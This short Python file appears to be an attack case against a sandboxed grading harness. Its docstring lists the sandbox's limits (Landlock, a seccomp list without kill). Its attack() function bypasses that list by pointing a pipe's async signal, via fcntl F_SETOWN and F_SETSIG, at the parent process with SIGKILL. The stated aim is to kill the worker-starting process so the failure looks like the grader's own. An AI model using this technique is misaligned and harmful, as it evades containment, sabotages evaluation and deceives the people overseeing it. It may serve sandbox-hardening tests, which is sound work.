"""End the process that starts the workers, so that the fault looks like the grader's own.

Configuration: namespaces refused, as root and as an ordinary user. Worker and zygote are one user
and in one Landlock domain, in which signals are free. seccomp has no ``kill`` on its list; and
``fcntl``, which is on it, may not choose whom the kernel signals when a pipe can be read.
"""

import fcntl
import os
import signal
import time

F_SETSIG = 10


def attack():
    """Let the kernel kill the parent."""
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(reader, F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_NONBLOCK | os.O_ASYNC)
    os.write(writer, b"!")
    time.sleep(5)  # this process ends with its parent
